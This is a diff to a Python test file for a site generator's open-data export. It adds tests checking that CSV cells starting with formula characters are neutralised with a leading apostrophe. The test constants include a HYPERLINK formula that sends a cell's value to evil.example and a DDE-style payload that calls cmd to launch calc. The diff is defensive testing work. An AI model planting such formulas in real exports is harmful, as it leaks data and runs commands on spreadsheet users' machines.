@@ -1,7 +1,7 @@
-"""Every output drops the same characters (talkoot.characters).
+"""Every output drops the same characters (talkoot.characters), and open data opens safely.
 
 These tests put controls into loaded content directly, as a bug upstream or a future field
-might, and render every output of the site from it.
+might, and render every output of the site from it. The CSV test runs a real build.
 """
 
 from __future__ import annotations
@@ -19,8 +19,10 @@ import icalendar
 import pytest
 import yaml
 
+from conftest import build_site
 from talkoot import characters
 from talkoot.content import Content, dump, load
+from talkoot.opendata import CSV_NOTE, Record, to_csv
 from talkoot.pages import Page, Site, SiteInfo
 
 CASES = Path(__file__).parent / "content_cases"
@@ -138,3 +140,76 @@ def test_open_data_keeps_the_text_without_the_controls(pages: dict[str, str | by
         "Osaajien saatavuus",
         "Haasteja[31mpunainen",
     )
+    page = pages["avoin-data.md"]
+    assert isinstance(page, str) and "heittomerkki" in page
+
+
+class _Numbers(Record):
+    id: int
+    delta: int
+    share: float
+    label: str
+    note: str | None
+    tags: list[str]
+    numbers: list[int]
+
+
+def test_csv_neutralises_formulas_but_not_numbers() -> None:
+    records = [
+        _Numbers(
+            id=1,
+            delta=-5,
+            share=-1.5,
+            label="-5",
+            note="@SUM(1+1)",
+            tags=["=1+1", "b"],
+            numbers=[-1, 2],
+        ),
+        _Numbers(id=2, delta=3, share=0.5, label="+358", note="\tx", tags=[], numbers=[]),
+        _Numbers(id=3, delta=0, share=0, label="\rx", note=None, tags=["a", "=b"], numbers=[1]),
+    ]
+    rows = list(csv.reader(io.StringIO(to_csv(records, _Numbers).decode("utf-8"))))
+    assert rows[1:] == [
+        ["1", "-5", "-1.5", "'-5", "'@SUM(1+1)", "'=1+1; b", "-1; 2"],
+        ["2", "3", "0.5", "'+358", "'\tx", "", ""],
+        ["3", "0", "0.0", "'\rx", "", "a; =b", "1"],
+    ]
+
+
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Lisää")'
+FORMULA_ORGANISATION = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.mark.build
+def test_formulas_in_a_real_build(tmp_path: Path) -> None:
+    content = tmp_path / "content"
+    files = dict(BASE)
+    proposal = yaml.safe_load(files["proposals/2023/12-osaajat.yml"])
+    proposal.update(title=FORMULA_TITLE, organisation=FORMULA_ORGANISATION, impact="-12 %")
+    files["proposals/2023/12-osaajat.yml"] = dump("proposals/2023/12-osaajat.yml", proposal)
+    for rel, text in files.items():
+        (content / rel).parent.mkdir(parents=True, exist_ok=True)
+        (content / rel).write_text(text, encoding="utf-8")
+    site = tmp_path / "site"
+    result = build_site(site, content)
+    assert result.returncode == 0, result.stderr
+
+    (item,) = json.loads((site / "data" / "ehdotukset.json").read_text(encoding="utf-8"))["items"]
+    assert (item["title"], item["organisation"], item["impact"]) == (
+        FORMULA_TITLE,
+        FORMULA_ORGANISATION,
+        "-12 %",
+    )
+    raw = (site / "data" / "ehdotukset.csv").read_bytes().decode("utf-8")
+    (row,) = csv.DictReader(io.StringIO(raw))
+    assert row["title"] == "'" + FORMULA_TITLE
+    assert row["organisation"] == "'" + FORMULA_ORGANISATION
+    assert row["impact"] == "'-12 %"
+    assert (row["id"], row["edition"]) == ("12", "2023")
+    # every cell of the file: none starts a formula
+    for cells in csv.reader(io.StringIO(raw)):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    schema = json.loads((site / "data" / "ehdotukset.schema.json").read_text(encoding="utf-8"))
+    assert CSV_NOTE in schema["description"]
+    page = (site / "avoin-data" / "index.html").read_text(encoding="utf-8")
+    assert "heittomerkki" in page
